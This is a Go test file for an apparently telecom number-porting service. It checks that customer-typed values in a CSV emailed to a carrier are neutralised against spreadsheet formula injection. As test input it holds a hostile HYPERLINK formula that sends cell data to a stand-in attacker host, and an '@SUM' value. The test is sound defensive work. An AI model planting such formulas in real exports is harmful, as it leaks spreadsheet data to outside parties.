package team_test

import (
	"context"
	"encoding/base64"
	"encoding/csv"
	"io"
	"mime"
	"mime/multipart"
	"strings"
	"testing"

	"github.com/portdesk/portdesk/internal/desktest"
	"github.com/portdesk/portdesk/internal/domain"
	"github.com/portdesk/portdesk/internal/notify"
	"github.com/portdesk/portdesk/internal/notify/smtptest"
	"github.com/portdesk/portdesk/internal/portin"
	"github.com/portdesk/portdesk/internal/team"
)

// attachmentData is the decoded content of the received message's attachment called name.
func attachmentData(t *testing.T, r smtptest.Received, name string) []byte {
	t.Helper()
	m, err := r.Parse()
	if err != nil {
		t.Fatal(err)
	}
	var found []byte
	var walk func(ct string, body io.Reader)
	walk = func(ct string, body io.Reader) {
		mt, params, err := mime.ParseMediaType(ct)
		if err != nil || !strings.HasPrefix(mt, "multipart/") {
			return
		}
		mr := multipart.NewReader(body, params["boundary"])
		for {
			p, err := mr.NextPart()
			if err != nil {
				return
			}
			if p.FileName() == name {
				var rd io.Reader = p
				if strings.EqualFold(p.Header.Get("Content-Transfer-Encoding"), "base64") {
					rd = base64.NewDecoder(base64.StdEncoding, p)
				}
				found, _ = io.ReadAll(rd)
				return
			}
			walk(p.Header.Get("Content-Type"), p)
		}
	}
	walk(m.Header.Get("Content-Type"), m.Body)
	if found == nil {
		t.Fatalf("no attachment %s", name)
	}
	return found
}

// The numbers CSV a carrier is emailed holds what the customer typed (the account number,
// the billing telephone number): a cell a spreadsheet would run as a formula reaches the
// carrier's desk neutralised, and the tracking source, ours alone, not at all.
func TestSecurityCarrierCSVFormulas(t *testing.T) {
	t.Parallel()
	desktest.Engines(t, func(t *testing.T, env *desktest.Env) {
		t.Parallel()
		ctx := context.Background()
		srv := smtptest.Start(t)
		m, _ := notify.NewSMTP(notify.SMTPConfig{Host: srv.Host, Port: srv.Port, TLS: "none"})
		env.UseMailer(t, m)
		c := env.NewCustomer(t, "Acme", 0, domain.CountryGB)
		staff, _ := env.NewStaff(t, "agent@op.example", domain.RoleAgent)
		carrier, err := env.Team.SaveCarrier(ctx, staff, 0, team.CarrierInput{Name: "BT Wholesale", Email: "porting@bt.example"})
		if err != nil {
			t.Fatal(err)
		}
		const formula = `=HYPERLINK("https://evil.example/?"&A1,"Click")`
		p, err := env.PortIns.Create(ctx, c.Actor, portin.Changes{Numbers: []portin.NumberInput{{Number: "0113 496 0761", TrackingSource: "@SUM(1+1)"}}})
		if err != nil {
			t.Fatal(err)
		}
		changes := desktest.Complete()
		changes.AccountNumber = func(s string) *string { return &s }(formula)
		if p, err = env.PortIns.Update(ctx, c.Actor, p.ID, p.Version, changes); err != nil {
			t.Fatal(err)
		}
		env.Paperwork(t, c.Actor, p.ID)
		v, err := env.PortIns.Get(ctx, c.Actor, p.ID)
		if err != nil {
			t.Fatal(err)
		}
		if p, err = env.PortIns.Submit(ctx, c.Actor, p.ID, v.Version); err != nil {
			t.Fatal(err)
		}
		if p, err = env.Team.SendToCarrier(ctx, staff, p.ID, p.Version, carrier.ID); err != nil {
			t.Fatal(err)
		}
		sent := env.LastEvent(t, p.ID, domain.EventSentToCarrier)
		if err := env.Team.SendOrderPackage(ctx, domain.SendToCarrierArgs{EventID: sent.ID, CarrierID: carrier.ID}); err != nil {
			t.Fatal(err)
		}
		got := srv.Messages()
		if len(got) != 1 {
			t.Fatalf("%d emails", len(got))
		}
		data := attachmentData(t, got[0], "numbers-"+itoa(p.ID)+".csv")
		recs, err := csv.NewReader(strings.NewReader(string(data))).ReadAll()
		if err != nil || len(recs) != 2 {
			t.Fatalf("the CSV: %v %q", err, data)
		}
		if recs[1][0] != "+441134960761" || recs[1][1] != "'"+formula {
			t.Errorf("row %q, want the number as is and the account number neutralised", recs[1])
		}
		if strings.Contains(string(data), "SUM") {
			t.Errorf("the tracking source reached the carrier: %q", data)
		}
	})
}
